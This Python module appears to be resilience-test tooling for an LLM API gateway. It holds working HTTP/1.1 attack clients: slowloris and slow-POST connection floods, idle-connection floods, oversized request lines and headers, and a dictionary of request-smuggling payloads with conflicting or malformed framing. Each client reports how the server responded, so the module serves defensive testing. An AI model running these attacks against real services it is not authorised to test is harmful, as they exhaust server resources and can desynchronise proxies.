"""HTTP/1.1 attack clients over plain sockets: slow heads (slowloris), slow bodies (slow POST),
oversized heads and ambiguous framing (request smuggling).

The slow attacks open many connections at once (asyncio streams) and keep each trickling until the
server answers or closes, or ``duration_s`` passes; they report how many the server cut off, with
which status, and how long that took. The one-shot ones send a single crafted request and report the
status line and whether the server closed the connection after it.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import time
from collections import Counter
from dataclasses import dataclass, field

from gateway.rlimits import raise_open_file_limit

CHAT_PATH = "/v1/chat/completions"
CHAT_BODY = b'{"model":"llama-8b","messages":[{"role":"user","content":"hi"}],"max_tokens":4,"stream":true}'


@dataclass
class Trickled:
    """One slow connection: the status the server answered (None: none) and when it closed it."""

    status: int | None = None
    closed_after_s: float | None = None  # None: still open when the attack stopped
    answer: bytes = b""


@dataclass
class SlowReport:
    """What a slow attack saw across its connections."""

    connections: int = 0
    connect_errors: int = 0
    statuses: Counter[int | None] = field(default_factory=Counter)
    closed: int = 0  # connections the server closed
    still_open: int = 0  # connections open when the attack stopped
    max_closed_after_s: float = 0.0  # the latest close, from the attack's start
    bodies: list[bytes] = field(default_factory=list)  # a few answers, for their error JSON


def status_of(answer: bytes) -> int | None:
    """The status code of an HTTP/1.1 answer's status line, or None."""
    parts = answer.split(b"\r\n", 1)[0].split(b" ", 2)
    if len(parts) >= 2 and parts[0].startswith(b"HTTP/1.") and parts[1].isdigit():
        return int(parts[1])
    return None


async def _trickle(host: str, port: int, first: bytes, drip: bytes, interval_s: float,
                   duration_s: float, start: float) -> Trickled:
    loop = asyncio.get_running_loop()
    reader, writer = await asyncio.open_connection(host, port)
    result = Trickled()
    answer = bytearray()

    async def read() -> None:
        with contextlib.suppress(ConnectionError, OSError):
            while data := await reader.read(65536):
                answer.extend(data)

    reading = asyncio.ensure_future(read())
    deadline = start + duration_s
    try:
        if first:
            writer.write(first)
        while not reading.done() and loop.time() < deadline:
            await asyncio.wait({reading}, timeout=min(interval_s, max(0.0, deadline - loop.time())))
            if reading.done() or loop.time() >= deadline:
                break
            try:
                writer.write(drip)
                await writer.drain()
            except (ConnectionError, OSError):
                await asyncio.wait({reading}, timeout=2)
                break
        if reading.done():
            result.closed_after_s = loop.time() - start
    finally:
        reading.cancel()
        writer.close()
        with contextlib.suppress(Exception):
            await writer.wait_closed()
    result.answer = bytes(answer)
    result.status = status_of(result.answer)
    return result


async def _many(host: str, port: int, connections: int, first: bytes, drip: bytes, interval_s: float,
                duration_s: float) -> SlowReport:
    raise_open_file_limit()  # thousands of connections pass the usual soft limit of 1024
    start = asyncio.get_running_loop().time()
    outcomes = await asyncio.gather(
        *(_trickle(host, port, first, drip, interval_s, duration_s, start) for _ in range(connections)),
        return_exceptions=True,
    )
    report = SlowReport(connections=connections)
    for outcome in outcomes:
        if isinstance(outcome, BaseException):
            report.connect_errors += 1
            continue
        report.statuses[outcome.status] += 1
        if outcome.closed_after_s is None:
            report.still_open += 1
        else:
            report.closed += 1
            report.max_closed_after_s = max(report.max_closed_after_s, outcome.closed_after_s)
        if len(report.bodies) < 3 and outcome.answer:
            report.bodies.append(outcome.answer)
    return report


async def slow_headers(host: str, port: int, connections: int = 100, interval_s: float = 1.0,
                       duration_s: float = 20.0) -> SlowReport:
    """Slowloris: a request line, then one more header line every ``interval_s``, never the blank line."""
    first = f"POST {CHAT_PATH} HTTP/1.1\r\nHost: {host}\r\n".encode()
    return await _many(host, port, connections, first, b"X-Slow: 1\r\n", interval_s, duration_s)


async def slow_body(host: str, port: int, connections: int = 100, interval_s: float = 1.0,
                    duration_s: float = 30.0, body_bytes: int = 4096) -> SlowReport:
    """Slow POST: a complete head announcing ``body_bytes``, then the body one byte per ``interval_s``."""
    first = (f"POST {CHAT_PATH} HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
             f"Content-Length: {body_bytes}\r\n\r\n").encode()
    return await _many(host, port, connections, first, b" ", interval_s, duration_s)


async def idle_connections(host: str, port: int, connections: int = 100,
                           duration_s: float = 20.0) -> SlowReport:
    """Connections that send nothing at all."""
    return await _many(host, port, connections, b"", b"", duration_s, duration_s)


@dataclass
class OneShot:
    """A single crafted request: the status line's code, the whole answer, and whether the server
    closed the connection after it (within the read timeout)."""

    status: int | None
    answer: bytes
    closed: bool
    elapsed_s: float


def send_raw(host: str, port: int, data: bytes, timeout_s: float = 10.0) -> OneShot:
    """Send ``data`` on a new connection and read until the server closes it or ``timeout_s`` passes."""
    start = time.monotonic()
    answer = bytearray()
    closed = False
    with socket.create_connection((host, port), timeout=timeout_s) as sock:
        with contextlib.suppress(OSError):  # the server may close before taking all of it
            sock.sendall(data)
        deadline = start + timeout_s
        while (left := deadline - time.monotonic()) > 0:
            sock.settimeout(left)
            try:
                chunk = sock.recv(65536)
            except TimeoutError:
                break
            except OSError:  # reset: closed too
                closed = True
                break
            if not chunk:
                closed = True
                break
            answer += chunk
    return OneShot(status_of(bytes(answer)), bytes(answer), closed, time.monotonic() - start)


def _post(headers: str, body: bytes = b"") -> bytes:
    head = f"POST {CHAT_PATH} HTTP/1.1\r\nHost: gw\r\nContent-Type: application/json\r\n{headers}\r\n"
    return head.encode() + body


def long_request_line(host: str, port: int, length: int = 16 * 1024) -> OneShot:
    """A request target of ``length`` bytes."""
    return send_raw(host, port, f"GET /{'a' * length} HTTP/1.1\r\nHost: gw\r\n\r\n".encode())


def many_headers(host: str, port: int, count: int = 200) -> OneShot:
    """``count`` small headers."""
    headers = "".join(f"X-H{i}: v\r\n" for i in range(count))
    return send_raw(host, port, _post(headers + "Content-Length: 0\r\n"))


def huge_header(host: str, port: int, size: int = 128 * 1024) -> OneShot:
    """One header line of ``size`` bytes (llhttp alone would buffer all of it)."""
    return send_raw(host, port, _post(f"X-Big: {'b' * size}\r\nContent-Length: 0\r\n"))


SMUGGLING = {
    # Content-Length and Transfer-Encoding together: which one frames the body? (RFC 9112 6.3)
    "cl_te": _post("Content-Length: 6\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\nG"),
    "two_cl": _post("Content-Length: 5\r\nContent-Length: 7\r\n", b"12345"),
    "bad_chunk_size": _post("Transfer-Encoding: chunked\r\n", b"zz\r\nhello\r\n0\r\n\r\n"),
    "chunk_size_overflow": _post("Transfer-Encoding: chunked\r\n", b"fffffffffffffffffff\r\nx\r\n"),
    "te_not_last_chunked": _post("Transfer-Encoding: chunked, identity\r\n", b"0\r\n\r\n"),
}


def smuggle(host: str, port: int, variant: str) -> OneShot:
    """One request with ambiguous or broken framing (see ``SMUGGLING``)."""
    return send_raw(host, port, SMUGGLING[variant])
